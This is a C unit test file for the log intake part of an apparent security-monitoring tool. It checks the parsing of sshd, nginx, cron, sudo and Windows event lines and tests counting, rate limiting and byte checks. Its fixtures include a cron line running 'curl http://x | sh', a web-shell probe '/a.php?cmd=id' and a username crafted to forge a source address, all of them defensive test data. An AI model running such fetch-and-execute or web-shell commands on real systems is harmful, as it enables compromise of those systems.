#include "intake/intake.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "base/arena.h"
#include "base/stamp.h"

/* From a line to an event with the program's own mappings: fields, place, time. */

static struct maps *maps;

static int load(void **state)
{
	struct fault why = { 0 };

	(void)state;
	maps = maps_new();
	if (maps_add_own(maps, &why) == 0)
		return 0;
	fprintf(stderr, "%s\n", why.text);
	return -1;
}

static int unload(void **state)
{
	(void)state;
	maps_free(maps);
	return 0;
}

static const int64_t now = INT64_C(1790000000) * STAMP_SECOND;

#define SSHD "<38>Nov 25 22:48:00 h sshd[36]: "

static const struct {
	const char *line, *product, *category, *service;
	const char *fields[8]; /* name, text, ... */
	const char *why;
} rows[] = {
	{ SSHD "Failed password for root from 203.0.113.66 port 43274 ssh2",
	  "linux",
	  NULL,
	  "sshd",
	  { "action", "login", "outcome", "failure", "user", "root", "src_ip", "203.0.113.66" },
	  "a known user" },
	{ SSHD "Failed password for invalid user admin from 203.0.113.66 port 39998 ssh2",
	  "linux",
	  NULL,
	  "auth",
	  { "user", "admin", "known_user", "false", "src_port", "39998", "method", "password" },
	  "unknown user" },
	{ SSHD "Failed password for invalid user  from 203.0.113.66 port 1 ssh2",
	  "linux",
	  NULL,
	  "sshd",
	  { "user", "", "src_ip", "203.0.113.66", "outcome", "failure" },
	  "an empty name" },
	{ SSHD "Failed password for invalid user a from 6.6.6.6 port 1 ssh2 from 1.2.3.4 port 22 ssh2",
	  "linux",
	  NULL,
	  "sshd",
	  { "user", "a from 6.6.6.6 port 1 ssh2", "src_ip", "1.2.3.4", "src_port", "22" },
	  "a name that forges an address" },
	{ SSHD "Accepted publickey for ops from 10.0.0.1 port 53470 ssh2: ED25519 SHA256:abc",
	  "linux",
	  NULL,
	  "sshd",
	  { "outcome", "success", "method", "publickey", "key_type", "ED25519", "fingerprint", "SHA256:abc" },
	  "a key" },
	{ SSHD "Connection closed by authenticating user root 1.2.3.4 port 5 [preauth]",
	  "linux",
	  NULL,
	  "sshd",
	  { "action", "closed", "user", "root", "src_ip", "1.2.3.4" },
	  "gave up" },
	{ SSHD "message repeated 2 times: [ Failed password for root from 1.2.3.4 port 5 ssh2]",
	  "linux",
	  NULL,
	  "sshd",
	  { "action", "login", "outcome", "failure", "attempts", "2" },
	  "joined by the sender" },
	{ SSHD "something new that nobody knows",
	  "linux",
	  NULL,
	  "sshd",
	  { "message", "something new that nobody knows", "program", "sshd" },
	  "unknown, but of sshd" },
	{ "<190>Nov 25 22:49:16 w nginx: 1.2.3.4 - - [25/Nov/2026:22:49:16 +0000] \"GET /a.php?cmd=id "
	  "HTTP/1.1\" 200 "
	  "7 \"-\" \"curl/7.88.1\"",
	  NULL,
	  "webserver",
	  "nginx",
	  { "cs-uri-stem", "/a.php", "cs-uri-query", "cmd=id", "sc-status", "200", "c-useragent",
	    "curl/7.88.1" },
	  "nginx through syslog" },
	{ "1.2.3.4 - bob [25/Nov/2026:22:49:16 +0000] \"POST /x HTTP/1.0\" 404 0 \"http://a/\" \"M \\\"x\\\" "
	  "y\"",
	  NULL,
	  "webserver",
	  NULL,
	  { "cs-method", "POST", "cs-username", "bob", "cs-referer", "http://a/", "cs-user-agent",
	    "M \\\"x\\\" y" },
	  "a combined line with quotes inside" },
	{ "1.2.3.4 - - [25/Nov/2026:22:49:16 +0000] \"\\x16\\x03\" 400 150 \"-\" \"-\"",
	  NULL,
	  "webserver",
	  NULL,
	  { "cs-request", "\\x16\\x03", "sc-status", "400" },
	  "TLS on the plain port" },
	{ "1.2.3.4 - - [25/Nov/2026:22:49:16 +0000] \"GET / HTTP/1.1\" 200 5",
	  NULL,
	  "webserver",
	  NULL,
	  { "cs-uri", "/", "sc-bytes", "5" },
	  "the common format" },
	{ "<78>Nov 25 22:49:01 h CRON[99]: (opsvc) CMD (curl http://x | sh)",
	  "linux",
	  NULL,
	  "cron",
	  { "user", "opsvc", "command", "curl http://x | sh" },
	  "cron in capitals" },
	{ "<86>Nov 25 22:49:01 h sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh",
	  "linux",
	  NULL,
	  "sudo",
	  { "program", "sudo" },
	  "sudo pads the name" },
	{ "<34>Oct 11 22:14:15 h foo: bar", "linux", NULL, "auth", { "message", "bar" }, "by facility" },
	{ "<13>Oct 11 22:14:15 h foo: bar", "linux", NULL, "syslog", { "program", "foo" }, "anything else" },
	{ "{\"Channel\":\"Security\",\"EventID\":4688,\"NewProcessName\":\"C:\\\\a.exe\"}",
	  "windows",
	  "process_creation",
	  "security",
	  { "Image", "C:\\a.exe" },
	  "the Sigma name of a 4688" },
	{ "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"S\"}},\"EventID\":1,\"Channel\":"
	  "\"Microsoft-Windows-Sysmon/Operational\"},\"EventData\":{\"Image\":\"x\"}}}",
	  "windows",
	  "process_creation",
	  "sysmon",
	  { "Provider_Name", "S", "Image", "x" },
	  "evtx_dump" },
	{ "{\"winlog\":{\"event_id\":\"13\",\"channel\":\"Microsoft-Windows-Sysmon/"
	  "Operational\",\"event_data\":"
	  "{\"TargetObject\":\"k\"}}}",
	  "windows",
	  "registry_set",
	  "sysmon",
	  { "TargetObject", "k" },
	  "winlogbeat" },
	{ "{\"Channel\":\"System\",\"EventID\":1,\"Source Name\":\"x\"}",
	  "windows",
	  NULL,
	  "system",
	  { "SourceName", "x" },
	  "names without spaces" },
	{ "{\"text\":\"what somebody said\"}",
	  NULL,
	  NULL,
	  NULL,
	  { "text", "what somebody said" },
	  "JSON of nobody's" },
};

static bool among(const char *word, const char *const *list, size_t count)
{
	bool found = !word && !list[0];

	for (size_t i = 0; i < count && word; i++)
		found |= list[i] && !strcmp(word, list[i]);
	return found;
}

static void lines_become_events(void **state)
{
	SCOPED(event_drop) struct event *e = event_new();

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		struct source source = { .name = "test", .year = { .now = now } };
		struct fault why = { 0 };

		if (intake_line(maps, &source, rows[i].line, strlen(rows[i].line), now, e, &why) < 0)
			fail_msg("%s: %s", rows[i].why, why.text);
		if (!rows[i].product != !e->from.product ||
		    (rows[i].product && strcmp(rows[i].product, e->from.product)) ||
		    !among(rows[i].category, e->from.categories, LOGSOURCE_CATEGORIES) ||
		    (rows[i].service && !among(rows[i].service, e->from.services, LOGSOURCE_SERVICES)))
			fail_msg("%s: from %s %s %s", rows[i].why, e->from.product, e->from.categories[0],
				 e->from.services[0]);
		for (size_t k = 0; k < 8 && rows[i].fields[k]; k += 2)
			if (!event_says(e, rows[i].fields[k], rows[i].fields[k + 1]))
				fail_msg("%s: %s is not '%s'", rows[i].why, rows[i].fields[k],
					 rows[i].fields[k + 1]);
		source_fini(&source);
	}
}

/* sent = stored + limited + malformed, whatever comes. */
static void every_line_is_counted(void **state)
{
	static const char *const lines[] = { "{\"a\":1}", "{\"a\":", "", "<999>x", "a\xFF", "plain" };
	struct source source = { .name = "test", .year = { .now = now } };
	SCOPED(event_drop) struct event *e = event_new();
	static char longest[LINE_LIMIT + 1];

	(void)state;
	for (size_t i = 0; i < sizeof(lines) / sizeof(*lines); i++)
		intake_line(maps, &source, lines[i], strlen(lines[i]), now, e, NULL);
	intake_line(maps, &source, "a\0b\0", 4, now, e, NULL);
	memset(longest, 'x', sizeof(longest));
	assert_int_equal(intake_line(maps, &source, longest, sizeof(longest), now, e, NULL), -FAULT_LIMIT);
	assert_int_equal(intake_line(maps, &source, longest, LINE_LIMIT, now, e, NULL), 0);
	intake_lost(&source);
	assert_int_equal(source.tally.received, 10);
	assert_int_equal(source.tally.malformed, 3);
	assert_int_equal(source.tally.stored, 7);
	assert_int_equal(source.tally.odd_pri, 1);
	assert_int_equal(source.tally.odd_utf8, 1);
	assert_int_equal(source.tally.odd_nul, 1);
	assert_int_equal(source.lines, 10);
	assert_int_equal(quarantine_count(source.quarantine), 3);
	source_fini(&source);
}

/* What no text should have is counted in JSON as well, wherever it stands. */
static void odd_bytes_of_json_are_counted(void **state)
{
	static const struct {
		const char *line;
		size_t len;
		uint64_t nul, utf8;
		const char *why;
	} odd[] = {
		{ "{\"a\":\"b\"}", 9, 0, 0, "nothing odd" },
		{ "{\"a\":\"\xC3\xA4\"}", 10, 0, 0, "UTF-8" },
		{ "{\"a\":\"\xC3\"}", 9, 0, 1, "no UTF-8" },
		{ "{\"a\":\"b\"\0}", 10, 1, 0, "NUL" },
		{ "{\"a\":\"b\"}\0\0", 11, 0, 0, "NUL at the end" },
		{ "{\"a\":\"0123456789012345678901234567890123456789012345678901234567890123456789\xA4\"}",
		  79, 0, 1, "no UTF-8 far behind" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(odd) / sizeof(*odd); i++) {
		SCOPED(event_drop) struct event *e = event_new();
		struct source source = { .name = "odd" };
		struct fault why;

		intake_line(maps, &source, odd[i].line, odd[i].len, now, e, &why);
		if (source.tally.odd_nul != odd[i].nul || source.tally.odd_utf8 != odd[i].utf8)
			fail_msg("%s", odd[i].why);
		source_fini(&source);
	}
}

static void a_source_may_be_limited(void **state)
{
	struct tally_limit limit = { .per_second = 10, .burst = 10 };
	int64_t at = now;
	int admitted = 0;

	(void)state;
	for (int i = 0; i < 100; i++)
		admitted += tally_admits(&limit, at);
	assert_int_equal(admitted, 10); /* a second's worth at once */
	for (int i = 0; i < 100; i++)
		admitted += tally_admits(&limit, at += STAMP_SECOND / 100);
	assert_in_range(admitted, 19, 21); /* and ten a second from then on */
	assert_in_range(tally_wait(&limit, at), 1, STAMP_SECOND / 10);
	assert_int_equal(tally_admits(&limit, at + tally_wait(&limit, at)), 1);
	/* A clock that is set back does not shut a source out until it has caught up. */
	at -= STAMP_HOUR;
	for (int i = 0, again = 0; i < 100; i++) {
		again += tally_admits(&limit, at += STAMP_SECOND / 10);
		if (i == 99)
			assert_in_range(again, 98, 100);
	}
}

/* Lines are looked at in steps of many bytes: every place of a wrong one is a case,
 * and so is every place of a right one. */
static void a_wrong_byte_is_seen_wherever_it_stands(void **state)
{
	enum { LINE = 150 };
	struct source source = { .name = "t" };
	SCOPED(event_drop) struct event *e = event_new();
	char line[LINE];

	(void)state;
	for (size_t len = 1; len <= LINE; len += len < 20 ? 1 : 13)
		for (size_t i = 0; i < len; i++) {
			memset(line, 'x', len);
			line[i] = (char)0xe9;
			source.tally.odd_utf8 = 0;
			intake_line(maps, &source, line, len, now, e, NULL);
			assert_int_equal(source.tally.odd_utf8, 1);
			if (i + 1 == len)
				continue;
			memcpy(line + i, "\xc3\xa9", 2);
			intake_line(maps, &source, line, len, now, e, NULL);
			assert_int_equal(source.tally.odd_utf8, 1);
		}
	source_fini(&source);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(lines_become_events),
		cmocka_unit_test(every_line_is_counted),
		cmocka_unit_test(odd_bytes_of_json_are_counted),
		cmocka_unit_test(a_source_may_be_limited),
		cmocka_unit_test(a_wrong_byte_is_seen_wherever_it_stands),
	};

	return cmocka_run_group_tests_name("intake", tests, load, unload);
}
